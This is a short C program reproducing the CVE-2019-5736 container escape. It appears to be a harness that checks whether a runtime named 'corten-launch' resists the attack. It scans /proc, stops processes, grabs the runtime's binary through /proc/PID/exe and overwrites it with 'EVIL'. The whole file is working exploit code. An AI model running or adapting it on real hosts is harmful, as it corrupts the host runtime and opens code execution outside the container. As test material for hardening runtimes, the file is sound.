/* CVE-2019-5736 from inside a container: catch a process that runs the runtime's own program, and overwrite it.
 *
 * Prints `caught N`, then how it ended: `written`, or the errno of the last refusal.  Ends after argv[1] seconds. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int overwrite(int fd, int *refusal) {
    char path[64];

    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    for (int i = 0; i < 20000; i++) {
        int out = open(path, O_WRONLY | O_CLOEXEC);

        if (out < 0) {
            *refusal = errno;
            if (errno != ETXTBSY)
                return 0;
            continue;
        }
        ssize_t n = write(out, "EVIL", 4);

        *refusal = errno;
        close(out);
        return n == 4;
    }
    return 0;
}

int main(int argc, char **argv) {
    time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 5);
    int caught = 0, refusal = 0, written = 0;

    puts("ready");
    fflush(stdout);
    while (time(NULL) < end && !written) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;

        while (proc && (entry = readdir(proc)) && !written) {
            int pid = atoi(entry->d_name);
            char path[64], target[256];

            if (pid <= 1)
                continue;
            kill(pid, SIGSTOP); /* so that it does not end before we have looked */
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t n = readlink(path, target, sizeof target - 1);

            target[n < 0 ? 0 : n] = 0;
            if (strstr(target, "corten-launch")) {
                int fd = open(path, O_RDONLY | O_CLOEXEC);

                kill(pid, SIGKILL);
                if (fd >= 0) {
                    caught++;
                    written = overwrite(fd, &refusal);
                    close(fd);
                }
            }
            kill(pid, SIGCONT);
        }
        closedir(proc);
    }
    printf("caught %d\n%s\n", caught, written ? "written" : strerror(refusal));
    return 0;
}
